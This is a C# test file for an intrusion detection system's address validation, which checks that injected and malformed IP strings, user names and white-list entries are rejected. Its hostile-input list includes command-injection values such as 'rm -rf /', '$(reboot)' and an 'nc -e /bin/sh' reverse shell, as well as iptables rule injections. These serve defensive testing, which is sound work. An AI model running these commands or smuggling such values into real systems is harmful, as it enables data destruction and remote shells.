using System.Net;
using Hids.Engine.ActiveResponse;

namespace Hids.Engine.Tests.ActiveResponse;

public class AddressValidationTests
{
    public static readonly TheoryData<string> Hostile = new()
    {
        "1.2.3.4; rm -rf /",
        "$(reboot)",
        "`reboot`",
        "1.2.3.4 -j ACCEPT",
        "1.2.3.4\n-A INPUT -j ACCEPT",
        "1.2.3.4|nc -e /bin/sh 1.2.3.5 4444",
        "1.2.3.4&&reboot",
        "-j ACCEPT",
        "--help",
        "1.2.3.4/0",
        "fe80::1%eth0",
        "1.2.3",
        "10.1",
        "4294967295",
        "0x7f.1",
        "01.02.03.04",
        "256.1.1.1",
        "1.2.3.4 ",
        " 1.2.3.4",
        "",
        "0.0.0.0",
        "::",
        "255.255.255.255",
        "224.0.0.1",
        "ff02::1",
        new string('1', 46),
        "1111:2222:3333:4444:5555:6666:7777:8888:9999:aaaa:bbbb",
        "1.2.3.4\0",
        "１.２.３.４",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_and_malformed_strings_are_rejected_with_a_reason(string raw)
    {
        Assert.False(AddressValidation.TryParse(raw, out _, out var error));
        Assert.False(string.IsNullOrWhiteSpace(error));
    }

    [Theory]
    [InlineData("203.0.113.9", "203.0.113.9")]
    [InlineData("10.0.0.1", "10.0.0.1")]
    [InlineData("2001:db8::1", "2001:db8::1")]
    [InlineData("2001:DB8:0:0:0:0:0:1", "2001:db8::1")]
    [InlineData("::ffff:198.51.100.7", "198.51.100.7")]
    [InlineData("127.0.0.1", "127.0.0.1")]
    public void Valid_addresses_parse_to_their_canonical_form(string raw, string canonical)
    {
        Assert.True(AddressValidation.TryParse(raw, out var a, out var error), error);
        Assert.Equal(canonical, AddressValidation.Canonical(a));
    }

    [Theory]
    [InlineData("root", true)]
    [InlineData("web-user_1.x", true)]
    [InlineData("-rf", false)]
    [InlineData("a b", false)]
    [InlineData("$(id)", false)]
    [InlineData("averyveryveryveryveryverylongusername", false)]
    public void User_names_are_validated(string raw, bool ok) => Assert.Equal(ok, AddressValidation.TryValidateUser(raw, out _, out _));

    [Fact]
    public void Log_rendering_escapes_control_characters_and_caps_length()
    {
        var s = AddressValidation.ForLog("1.2.3.4\n-j ACCEPT" + new string('x', 200));
        Assert.DoesNotContain('\n', s);
        Assert.Contains("\\x0a", s);
        Assert.True(s.Length < 130);
    }

    [Theory]
    [InlineData("10.0.0.0/8", "10.200.3.4", true)]
    [InlineData("10.0.0.0/8", "11.0.0.1", false)]
    [InlineData("192.168.1.17/28", "192.168.1.30", true)]
    [InlineData("192.168.1.17/28", "192.168.1.33", false)]
    [InlineData("203.0.113.9", "203.0.113.9", true)]
    [InlineData("203.0.113.9", "203.0.113.10", false)]
    [InlineData("2001:db8::/32", "2001:db8:ffff::1", true)]
    [InlineData("2001:db8::/32", "2001:db9::1", false)]
    [InlineData("2001:db8::/32", "10.0.0.1", false)]
    [InlineData("0.0.0.0/0", "198.51.100.1", true)]
    [InlineData("10.0.0.0/8", "::ffff:10.1.2.3", true)]
    public void Cidr_ranges_contain_what_they_should(string range, string address, bool contained)
    {
        Assert.True(AddressRange.TryParse(range, out var r, out var error), error);
        Assert.Equal(contained, r.Contains(IPAddress.Parse(address)));
    }

    [Theory]
    [InlineData("10.0.0.0/33")]
    [InlineData("2001:db8::/129")]
    [InlineData("10.0.0.0/-1")]
    [InlineData("10.0/8")]
    [InlineData("example.com")]
    [InlineData("10.0.0.1; rm")]
    public void Bad_white_list_entries_are_reported(string entry)
    {
        var p = new ProtectedAddresses(new[] { entry }, () => Array.Empty<IPAddress>());
        Assert.NotEmpty(p.InvalidEntries);
        Assert.Empty(p.WhiteList);
    }

    [Fact]
    public void Loopback_white_list_and_own_addresses_are_protected()
    {
        var own = IPAddress.Parse("192.0.2.55");
        var p = new ProtectedAddresses(new[] { "198.51.100.0/24", "2001:db8:1::/48", "203.0.113.7" }, () => new[] { own });
        Assert.True(p.IsProtected(IPAddress.Parse("127.0.0.1"), out var why)); Assert.Contains("loopback", why);
        Assert.True(p.IsProtected(IPAddress.Parse("127.8.9.10"), out _));
        Assert.True(p.IsProtected(IPAddress.IPv6Loopback, out _));
        Assert.True(p.IsProtected(IPAddress.Parse("198.51.100.200"), out why)); Assert.Contains("white-listed", why);
        Assert.True(p.IsProtected(IPAddress.Parse("2001:db8:1:2::3"), out _));
        Assert.True(p.IsProtected(IPAddress.Parse("203.0.113.7"), out _));
        Assert.True(p.IsProtected(own, out why)); Assert.Contains("own", why);
        Assert.False(p.IsProtected(IPAddress.Parse("203.0.113.8"), out _));
        Assert.False(p.IsProtected(IPAddress.Parse("2001:db8:2::1"), out _));
    }

    [Fact]
    public void The_hosts_real_interface_addresses_are_enumerated_and_protected()
    {
        var own = ProtectedAddresses.LocalInterfaceAddresses().ToList();
        Assert.Contains(own, a => IPAddress.IsLoopback(a));
        var p = new ProtectedAddresses(Array.Empty<string>());
        foreach (var a in own) Assert.True(p.IsProtected(a, out _), a.ToString());
    }
}
